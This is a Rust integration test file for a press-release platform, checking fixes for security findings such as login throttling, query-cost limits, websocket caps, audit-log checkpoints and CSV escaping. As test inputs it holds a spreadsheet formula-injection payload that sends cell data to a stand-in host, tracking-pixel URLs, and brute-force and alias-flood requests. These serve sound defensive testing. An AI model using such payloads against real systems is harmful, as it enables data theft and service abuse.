//! Issue 15's findings, one test each (the e-mail ones are in `email.rs`): the embargo, terms,
//! sign-in protection, query cost, websocket limits and lifetimes, the audit chain's
//! checkpoints, CSV cells, and who speaks for a unit.
use pressnet_tests::ws::WsClient;
use pressnet_tests::*;
use serde_json::{json, Value};
use std::time::Duration;

const LOGIN: &str = "mutation($e:String!,$p:String!){ login(email:$e,password:$p){ token } }";

each!(backends;
    async fn a_cancelled_embargo_is_never_public(app) {
        let w = World::build(&app, 1).await;
        let sp = app.gql_as(&w.spokesperson);
        let id = draft(&sp, &w.unit_id, "Thông tin mật đến năm 2030", json!({"allAccredited": true})).await;
        let at = (app.clock.now() + chrono::Duration::days(1500)).to_rfc3339();
        sp.run(PUBLISH, json!({"id": id, "at": at})).await.data();
        sp.run("mutation($id:UUID!){ retractRelease(id:$id, reason:\"Hủy lịch\"){ status } }", json!({"id": id})).await.data();
        for g in [app.gql(), app.gql_as(&w.outlets[0].1), app.gql_as(&w.other_spokesperson)] {
            let r = g.run("query($id:UUID!){ release(id:$id){ title } }", json!({"id": id})).await;
            assert!(r.data()["release"].is_null(), "{}", r.body);
            let r = g.run("{ releases(status: RETRACTED) { totalCount edges { node { title body } } } }", json!({})).await;
            assert_eq!(r.data()["releases"]["totalCount"], 0, "{}", r.body);
        }
        // The unit still sees it, as cancelled: it was never published.
        let r = sp.run("query($id:UUID!){ release(id:$id){ status publishedAt } }", json!({"id": id})).await;
        assert_eq!(r.data()["release"], json!({"status": "RETRACTED", "publishedAt": null}));
    }
);

each!(backends;
    async fn a_former_spokesperson_reads_nothing_of_the_unit(app) {
        let w = World::build(&app, 1).await;
        let admin = app.gql_as(&w.admin);
        let sp = app.gql_as(&w.spokesperson);
        let own = draft(&sp, &w.unit_id, "Bản nháp cũ", json!({"allAccredited": true})).await;
        let published = publish_now(&sp, &w.unit_id, "Đã phát hành", json!({"outletIds": [w.outlets[0].0]})).await;
        admin.run("mutation($id:UUID!){ endSpokespersonTerm(id:$id){ id } }", json!({"id": w.spokesperson_id})).await.data();
        register_spokesperson(&admin, &w.unit_id, "Người kế nhiệm", "kenhiem@syt.vn").await;
        let successor = app.gql_as(&app.login("kenhiem@syt.vn", PASSWORD).await);
        let theirs = draft(&successor, &w.unit_id, "Bản nháp mới", json!({"allAccredited": true})).await;
        // Signing in again changes nothing.
        let former = app.gql_as(&app.login("duc@syt.vn", PASSWORD).await);
        let r = former.run("{ releases(status: DRAFT) { totalCount } }", json!({})).await;
        assert_eq!(r.data()["releases"]["totalCount"], 0, "{}", r.body);
        for id in [&own, &theirs, &published] {
            let r = former.run("query($id:UUID!){ release(id:$id){ id } }", json!({"id": id})).await;
            assert!(r.data()["release"].is_null(), "{}", r.body);
        }
        let r = former.run("{ deliveries(first: 50) { totalCount } }", json!({})).await;
        assert_eq!(r.data()["deliveries"]["totalCount"], 0);
        let r = former.run(CREATE_RELEASE, json!({"i": {"unitId": w.unit_id, "kind": "STATEMENT", "title": "T", "summary": "S", "body": "B", "audience": {"allAccredited": true}}})).await;
        assert_eq!(r.code(), "FORBIDDEN");
        // ADMIN speaks for no unit either (Decree 09/2017): only its active spokespersons do.
        assert_eq!(admin.run(PUBLISH, json!({"id": theirs})).await.code(), "FORBIDDEN");
        let r = admin.run("mutation($id:UUID!){ retractRelease(id:$id, reason:\"x\"){ id } }", json!({"id": published})).await;
        assert_eq!(r.code(), "FORBIDDEN");
    }
);

async fn failing(app: &TestApp, from: &str, n: usize) {
    for _ in 0..n {
        let r = app
            .gql()
            .forwarded_for(from)
            .run(LOGIN, json!({"e": ADMIN_EMAIL, "p": "sai mật khẩu"}))
            .await;
        assert!(
            matches!(r.code().as_str(), "UNAUTHENTICATED" | "RATE_LIMITED"),
            "{}",
            r.body
        );
    }
}

each!(backends, config = |c| c.trusted_proxies = Some("127.0.0.1/32".into());
    async fn sign_in(app) {
        app.admin().await;
        // An attacker's five failures lock the attacker's address for the account…
        failing(&app, "203.0.113.5", 5).await;
        let r = app
            .gql()
            .forwarded_for("203.0.113.5")
            .run(LOGIN, json!({"e": ADMIN_EMAIL, "p": PASSWORD}))
            .await;
        assert_eq!(r.code(), "RATE_LIMITED", "{}", r.body);
        assert!(r.body["errors"][0]["extensions"]["retryAfter"]
            .as_i64()
            .is_some_and(|s| s >= 1));
        // …not the user, who signs in from elsewhere.
        let r = app
            .gql()
            .forwarded_for("198.51.100.7")
            .run(LOGIN, json!({"e": ADMIN_EMAIL, "p": PASSWORD}))
            .await;
        assert!(r.data()["login"]["token"].is_string(), "{}", r.body);
        // Failures are counted exactly under concurrency: 20 at once from 20 addresses.
        let attempts = (0..20).map(|i| {
            let g = app.gql().forwarded_for(&format!("192.0.2.{i}"));
            async move {
                g.run(LOGIN, json!({"e": "khong-co@x.vn", "p": "sai mật khẩu"}))
                    .await
            }
        });
        futures::future::join_all(attempts).await;
        use sea_orm::EntityTrait;
        let row = pressnet_domain::entities::login_throttle::Entity::find_by_id(
            "acct:khong-co@x.vn".to_owned(),
        )
        .one(&app.ctx.db)
        .await
        .expect("query")
        .expect("row");
        assert_eq!(row.failures, 20);
    }
);

each!(backends;
    async fn forwarded_for_is_not_believed_from_an_untrusted_peer(app) {
        app.admin().await;
        for i in 0..5 {
            let g = app.gql().forwarded_for(&format!("203.0.113.{i}"));
            g.run(LOGIN, json!({"e": ADMIN_EMAIL, "p": "sai mật khẩu"})).await;
        }
        // The peer's own address counted all five: a forged header does not escape the lock.
        let r = app.gql().forwarded_for("203.0.113.99").run(LOGIN, json!({"e": ADMIN_EMAIL, "p": PASSWORD})).await;
        assert_eq!(r.code(), "RATE_LIMITED", "{}", r.body);
    }
);

const COSTLY: &str = "releases(first: 100) { edges { node { bodyHtml } } }";

each!(backends;
    async fn cost_follows_page_size_and_a_batch_shares_one_budget(app) {
        let token = app.admin().await;
        let g = app.gql_as(&token);
        // One costly page is fine.
        let r = g.run(&format!("{{ {COSTLY} }}"), json!({})).await;
        assert!(r.body["errors"].is_null(), "{}", r.body);
        // Aliases multiply it past the budget (the finding sent 1,240 of them in 60 KB).
        let many: String = (0..1240).map(|i| format!("a{i}: {COSTLY} ")).collect();
        let r = g.run(&format!("{{ {many} }}"), json!({})).await;
        assert_eq!(r.code(), "BAD_USER_INPUT", "{}", r.body);
        let five: String = (0..5).map(|i| format!("a{i}: {COSTLY} ")).collect();
        assert_eq!(g.run(&format!("{{ {five} }}"), json!({})).await.code(), "BAD_USER_INPUT");
        // A batch of operations shares one budget: four fit, five do not.
        let op = json!({"query": format!("{{ {COSTLY} }}")});
        let r = g.post_json(&Value::Array(vec![op.clone(); 4])).await;
        assert!(r.body.as_array().expect("batch").iter().all(|x| x["errors"].is_null()), "{}", r.body);
        let r = g.post_json(&Value::Array(vec![op; 5])).await;
        let codes: Vec<String> = r.body.as_array().expect("batch").iter()
            .filter_map(|x| x["errors"][0]["extensions"]["code"].as_str().map(str::to_owned)).collect();
        assert_eq!(codes, vec!["BAD_USER_INPUT".to_owned()], "{}", r.body);
    }
);

each!(backends;
    async fn a_socket_holds_a_bounded_number_of_subscriptions_and_an_account_of_sockets(app) {
        let w = World::build(&app, 1).await;
        let j = &w.outlets[0].1;
        let mut c = WsClient::connect(&app.ws_url(), j).await.expect("connect");
        for i in 0..16 {
            // Each a new shape: without a cap, every publication would render each of them.
            let q = format!("subscription {{ releasePublished {{ cursor r{i}: release {{ id }} }} }}");
            c.subscribe(&format!("s{i}"), &q, json!({})).await;
        }
        c.subscribe("s16", "subscription { releasePublished { cursor } }", json!({})).await;
        let v = c.next(Duration::from_secs(5)).await.expect("an answer");
        assert_eq!((v["type"].as_str(), v["id"].as_str()), (Some("error"), Some("s16")), "{v}");
        assert_eq!(v["payload"][0]["extensions"]["code"], "RATE_LIMITED");
        // The others go on.
        publish_now(&app.gql_as(&w.spokesperson), &w.unit_id, "Vẫn nhận", json!({"allAccredited": true})).await;
        let v = c.next(Duration::from_secs(5)).await.expect("a frame");
        assert_eq!(v["type"], "next", "{v}");
        // Connections per account: 16 (this one and 15 more); the next is closed.
        let mut more = Vec::new();
        for _ in 0..15 {
            more.push(WsClient::connect(&app.ws_url(), j).await.expect("connect"));
        }
        let e = WsClient::connect(&app.ws_url(), j).await.err().expect("refused");
        assert!(e.contains("1008"), "{e}");
    }
);

/// Waits for the socket to be closed by the server; returns the close code.
async fn closed(c: &mut WsClient) -> i64 {
    for _ in 0..50 {
        match c.next(Duration::from_millis(100)).await {
            Some(v) if v["type"] == "close" => return v["code"].as_i64().unwrap_or_default(),
            Some(_) => {}
            None => {}
        }
    }
    panic!("the socket stayed open");
}

each!(backends;
    async fn sockets_close_within_a_second_of_the_session_ending(app) {
        let w = World::build(&app, 2).await;
        let admin = app.gql_as(&w.admin);
        // Sign-out.
        let token = app.login("pv0@bao0.vn", PASSWORD).await;
        let mut c = WsClient::connect(&app.ws_url(), &token).await.expect("connect");
        app.gql_as(&token).run("mutation { logout }", json!({})).await.data();
        let t = std::time::Instant::now();
        assert_eq!(closed(&mut c).await, 4403);
        assert!(t.elapsed() < Duration::from_millis(2500), "{:?}", t.elapsed());
        // Suspension of the outlet.
        let mut c = WsClient::connect(&app.ws_url(), &w.outlets[1].1).await.expect("connect");
        admin.run("mutation($o:UUID!){ setAccreditation(outletId:$o,status:SUSPENDED){ id } }", json!({"o": w.outlets[1].0})).await.data();
        assert_eq!(closed(&mut c).await, 4403);
        // The end of a spokesperson's term.
        let mut c = WsClient::connect(&app.ws_url(), &w.spokesperson).await.expect("connect");
        admin.run("mutation($id:UUID!){ endSpokespersonTerm(id:$id){ id } }", json!({"id": w.spokesperson_id})).await.data();
        assert_eq!(closed(&mut c).await, 4403);
        // Expiry.
        let mut c = WsClient::connect(&app.ws_url(), &w.outlets[0].1).await.expect("connect");
        app.clock.advance(chrono::Duration::hours(13));
        assert_eq!(closed(&mut c).await, 4403);
    }
);

each!(backends;
    async fn checkpoints_find_truncation_and_rewrites(app) {
        let w = World::build(&app, 1).await;
        let a = app.gql_as(&w.auditor);
        let r = a.run("{ auditCheckpoint { seq hash at signature publicKey } }", json!({})).await;
        let cp = r.data()["auditCheckpoint"].clone();
        let seq = cp["seq"].as_i64().expect("seq");
        assert!(seq > 5);
        // The signature is Ed25519 over "seq\nhash\nat" with the published key.
        {
            use ed25519_dalek::pkcs8::DecodePublicKey;
            use ed25519_dalek::Verifier;
            use base64::Engine;
            let key = ed25519_dalek::VerifyingKey::from_public_key_pem(cp["publicKey"].as_str().expect("pem")).expect("key");
            let sig = base64::engine::general_purpose::STANDARD.decode(cp["signature"].as_str().expect("sig")).expect("b64");
            let sig = ed25519_dalek::Signature::from_slice(&sig).expect("signature");
            let text = format!("{}\n{}\n{}", seq, cp["hash"].as_str().expect("hash"), cp["at"].as_str().expect("at"));
            key.verify(text.as_bytes(), &sig).expect("checkpoint signature verifies");
        }
        const AGAINST: &str = "query($c:AuditCheckpointInput!){ verifyAuditLogAgainst(checkpoint:$c){ ok eventsChecked firstBadSeq } }";
        let kept = json!({"c": {"seq": seq, "hash": cp["hash"]}});
        assert_eq!(a.run(AGAINST, kept.clone()).await.data()["verifyAuditLogAgainst"]["ok"], true);
        // Cut the newest three events: the chain alone still verifies, the checkpoint does not.
        use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
        use pressnet_domain::entities::audit_event;
        audit_event::Entity::delete_many().filter(audit_event::Column::Seq.gt(seq - 3)).exec(&app.ctx.db).await.expect("delete");
        assert_eq!(a.run("{ verifyAuditLog { ok } }", json!({})).await.data()["verifyAuditLog"]["ok"], true);
        let r = a.run(AGAINST, kept.clone()).await;
        assert_eq!(r.data()["verifyAuditLogAgainst"], json!({"ok": false, "eventsChecked": seq - 3, "firstBadSeq": seq - 2}));
        // Rewrite: new events appended where the cut ones were (every hash recomputed).
        for _ in 0..4 {
            app.login(AUDITOR_EMAIL, PASSWORD).await;
        }
        assert_eq!(a.run("{ verifyAuditLog { ok } }", json!({})).await.data()["verifyAuditLog"]["ok"], true);
        let r = a.run(AGAINST, kept).await;
        assert_eq!(r.data()["verifyAuditLogAgainst"]["ok"], false);
        assert_eq!(r.data()["verifyAuditLogAgainst"]["firstBadSeq"], seq);
        // Only the authority asks.
        assert_eq!(app.gql_as(&w.spokesperson).run("{ auditCheckpoint { seq } }", json!({})).await.code(), "FORBIDDEN");
    }
);

each!(backends;
    async fn every_state_change_is_audited(app) {
        let w = World::build(&app, 1).await;
        let j = app.gql_as(&w.outlets[0].1);
        j.run("mutation { setEmailMode(mode: DAILY_DIGEST) { emailMode } }", json!({})).await.data();
        j.run("mutation($u:UUID!){ followUnit(unitId:$u) { emailMode } }", json!({"u": w.unit_id})).await.data();
        j.run("mutation($u:UUID!){ unfollowUnit(unitId:$u) { emailMode } }", json!({"u": w.unit_id})).await.data();
        j.run("mutation { logout }", json!({})).await.data();
        let admin = app.gql_as(&w.admin);
        let invited = admin.run("mutation($i:RegisterJournalistInput!){ registerJournalist(input:$i){ id } }",
            json!({"i": {"outletId": w.outlets[0].0, "fullName": "Người được mời", "email": "moi@bao0.vn"}})).await;
        invited.data();
        use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
        let tok: Vec<pressnet_domain::entities::outbox::Model> = pressnet_domain::entities::outbox::Entity::find()
            .filter(pressnet_domain::entities::outbox::Column::Recipient.eq("moi@bao0.vn")).all(&app.ctx.db).await.expect("outbox");
        let link = tok[0].payload.split("/#/invite/").nth(1).expect("invite link").split('"').next().expect("token").to_owned();
        let r = app.gql().run("mutation($t:String!,$p:String!){ acceptInvitation(token:$t,password:$p){ token } }", json!({"t": link, "p": PASSWORD})).await;
        r.data();
        // Taken once: the same link does not sign in twice.
        let r = app.gql().run("mutation($t:String!,$p:String!){ acceptInvitation(token:$t,password:$p){ token } }", json!({"t": link, "p": PASSWORD})).await;
        assert_eq!(r.code(), "BAD_USER_INPUT");
        admin.run("mutation { unsuppressEmail(address: \"khong-co@bao.vn\") }", json!({})).await.data();
        use pressnet_domain::entities::email_suppression;
        email_suppression::Entity::insert(email_suppression::ActiveModel {
            address: sea_orm::Set("hong@bao.vn".into()),
            reason: sea_orm::Set("550".into()),
            created_at: sea_orm::Set(app.clock.now()),
        }).exec(&app.ctx.db).await.expect("suppress");
        admin.run("mutation { unsuppressEmail(address: \"hong@bao.vn\") }", json!({})).await.data();
        let token: String = {
            use sea_orm::QuerySelect;
            pressnet_domain::entities::journalist_prefs::Entity::find().select_only()
                .column(pressnet_domain::entities::journalist_prefs::Column::UnsubscribeToken)
                .into_tuple().one(&app.ctx.db).await.expect("prefs").expect("a journalist's prefs")
        };
        let resp = reqwest::Client::new().post(format!("{}/unsubscribe?token={token}", app.base)).send().await.expect("unsubscribe");
        assert!(resp.status().is_success());
        let actions: Vec<String> = audit_event_actions(&app).await;
        for a in ["journalist.email_mode", "journalist.follow", "journalist.unfollow", "account.logout",
                  "account.accept_invitation", "email.unsuppress", "journalist.unsubscribe", "account.staff_create"] {
            assert!(actions.iter().any(|x| x == a), "no {a} in {actions:?}");
        }
        // An unsuppress that changed nothing is no event.
        assert_eq!(actions.iter().filter(|x| *x == "email.unsuppress").count(), 1);
        assert_eq!(app.gql_as(&w.auditor).run("{ verifyAuditLog { ok } }", json!({})).await.data()["verifyAuditLog"]["ok"], true);
    }
);

async fn audit_event_actions(app: &TestApp) -> Vec<String> {
    use sea_orm::{EntityTrait, QuerySelect};
    pressnet_domain::entities::audit_event::Entity::find()
        .select_only()
        .column(pressnet_domain::entities::audit_event::Column::Action)
        .into_tuple()
        .all(&app.ctx.db)
        .await
        .expect("audit")
}

each!(backends;
    async fn csv_cells_never_become_formulas(app) {
        let w = World::build(&app, 1).await;
        let sp = app.gql_as(&w.spokesperson);
        let id = publish_now(&sp, &w.unit_id, "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", json!({"allAccredited": true})).await;
        let text = reqwest::Client::new().get(format!("{}/exports/deliveries.csv?releaseId={id}", app.base))
            .bearer_auth(&w.auditor).send().await.expect("csv").text().await.expect("text");
        let mut rdr = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let mut rows = 0;
        for rec in rdr.records() {
            let rec = rec.expect("record");
            for cell in &rec {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            }
            assert!(rec.iter().any(|c| c.starts_with("'=HYPERLINK")), "{rec:?}");
            rows += 1;
        }
        assert!(rows > 0);
    }
);

each!(backends;
    async fn security_headers_on_every_page(app) {
        let http = reqwest::Client::new();
        for path in ["/", "/graphql", "/healthz", "/feeds/releases.atom"] {
            let r = http.get(format!("{}{path}", app.base)).header("accept", "text/html").send().await.expect("get");
            let h = r.headers();
            let csp = h.get("content-security-policy").and_then(|v| v.to_str().ok()).unwrap_or_default();
            assert!(csp.contains("frame-ancestors 'none'") && !csp.contains("unsafe-inline") || path == "/graphql", "{path}: {csp}");
            assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
            assert_eq!(h.get("x-content-type-options").and_then(|v| v.to_str().ok()), Some("nosniff"), "{path}");
            assert!(h.get("referrer-policy").is_some(), "{path}");
        }
        // Release HTML carries no remote images.
        let w = World::build(&app, 1).await;
        let sp = app.gql_as(&w.spokesperson);
        let id = draft(&sp, &w.unit_id, "Ảnh", json!({"allAccredited": true})).await;
        let _ = id;
        let r = sp.run(CREATE_RELEASE, json!({"i": {"unitId": w.unit_id, "kind": "STATEMENT", "title": "Ảnh ngoài", "summary": "S",
            "body": "![x](http://tracker.example/pixel.png) và <img src=\"https://tracker.example/a.png\">", "audience": {"allAccredited": true}}})).await;
        let rid = r.data()["createRelease"]["id"].as_str().expect("id").to_owned();
        let r = sp.run("query($id:UUID!){ release(id:$id){ bodyHtml } }", json!({"id": rid})).await;
        let html = r.data()["release"]["bodyHtml"].as_str().expect("html");
        assert!(!html.contains("tracker.example/pixel") && !html.contains("<img"), "{html}");
    }
);

each!(backends;
    async fn rsvp_capacity_and_one_answer_hold_under_concurrency(app) {
        let w = World::build(&app, 8).await;
        let sp = app.gql_as(&w.spokesperson);
        let starts = (app.clock.now() + chrono::Duration::days(2)).to_rfc3339();
        let r = sp.run(CREATE_RELEASE, json!({"i": {"unitId": w.unit_id, "kind": "PRESS_CONFERENCE", "title": "Họp báo", "summary": "S", "body": "B",
            "audience": {"allAccredited": true}, "pressConference": {"startsAt": starts, "location": "Hội trường", "capacity": 3}}})).await;
        let id = r.data()["createRelease"]["id"].as_str().expect("id").to_owned();
        sp.run(PUBLISH, json!({"id": id})).await.data();
        let rsvps = w.outlets.iter().map(|(_, t)| {
            let g = app.gql_as(t);
            let id = id.clone();
            async move { g.run("mutation($id:UUID!){ rsvp(releaseId:$id, attending:true){ capacity } }", json!({"id": id})).await }
        });
        let replies = futures::future::join_all(rsvps).await;
        let ok = replies.iter().filter(|r| r.body["errors"].is_null()).count();
        let full = replies.iter().filter(|r| r.body["errors"][0]["extensions"]["code"] == "CONFLICT").count();
        assert_eq!((ok, full), (3, 5), "{:?}", replies.iter().map(|r| r.body.to_string()).collect::<Vec<_>>());
        let r = sp.run("query($id:UUID!){ release(id:$id){ pressConference { attendeeCount } } }", json!({"id": id})).await;
        assert_eq!(r.data()["release"]["pressConference"]["attendeeCount"], 3);
        // One answer per question, however many arrive at once.
        let r = app.gql_as(&w.outlets[0].1).run("mutation($u:UUID!){ askQuestion(unitId:$u, question:\"Bao giờ?\"){ id } }", json!({"u": w.unit_id})).await;
        let q = r.data()["askQuestion"]["id"].as_str().expect("question").to_owned();
        let answers = (0..4).map(|i| {
            let sp = app.gql_as(&w.spokesperson);
            let q = q.clone();
            async move { sp.run("mutation($id:UUID!,$a:String!){ answerInquiry(id:$id, answer:$a){ status } }", json!({"id": q, "a": format!("Trả lời {i}")})).await }
        });
        let replies = futures::future::join_all(answers).await;
        assert_eq!(replies.iter().filter(|r| r.body["errors"].is_null()).count(), 1);
        assert_eq!(replies.iter().filter(|r| r.body["errors"][0]["extensions"]["code"] == "CONFLICT").count(), 3);
    }
);

each!(backends;
    async fn sockets_opened_during_a_session_sweep_stay_open(app) {
        // Many journalists connecting over a few seconds: some register while a sweep's queries
        // run, and a sweep must judge only the connections it looked up.
        let seeded = pressnet_tests::seed::seed(&app.ctx, 20, 300).await.expect("seed");
        let url = app.ws_url();
        let mut clients = Vec::new();
        for chunk in seeded.tokens.chunks(30) {
            let opened = futures::future::join_all(chunk.iter().map(|t| WsClient::connect(&url, t))).await;
            clients.extend(opened.into_iter().map(|c| c.expect("connect")));
            tokio::time::sleep(Duration::from_millis(150)).await;
        }
        tokio::time::sleep(Duration::from_millis(2500)).await;
        for c in &mut clients {
            if let Some(v) = c.next(Duration::from_millis(5)).await {
                panic!("a valid session's socket got {v}");
            }
        }
    }
);

each!(backends;
    async fn the_older_graphql_ws_protocol_has_the_same_subscription_cap(app) {
        use futures::{SinkExt, StreamExt};
        use tokio_tungstenite::tungstenite::Message;
        let w = World::build(&app, 1).await;
        let mut s = pressnet_tests::ws::open_legacy(&app.ws_url(), &w.outlets[0].1).await;
        let send = |v: Value| Message::Text(v.to_string().into());
        for i in 0..17 {
            let q = format!("subscription {{ releasePublished {{ cursor r{i}: release {{ id }} }} }}");
            s.send(send(json!({"id": format!("s{i}"), "type": "start", "payload": {"query": q}}))).await.expect("start");
        }
        let mut refused = None;
        while let Ok(Some(Ok(m))) = tokio::time::timeout(Duration::from_secs(5), s.next()).await {
            if let Message::Text(t) = m {
                let v: Value = serde_json::from_str(&t).expect("json");
                if v["type"] == "error" {
                    refused = Some(v);
                    break;
                }
            }
        }
        let v = refused.expect("the 17th start is refused");
        assert_eq!(v["id"], "s16");
        assert_eq!(v["payload"]["extensions"]["code"], "RATE_LIMITED");
    }
);
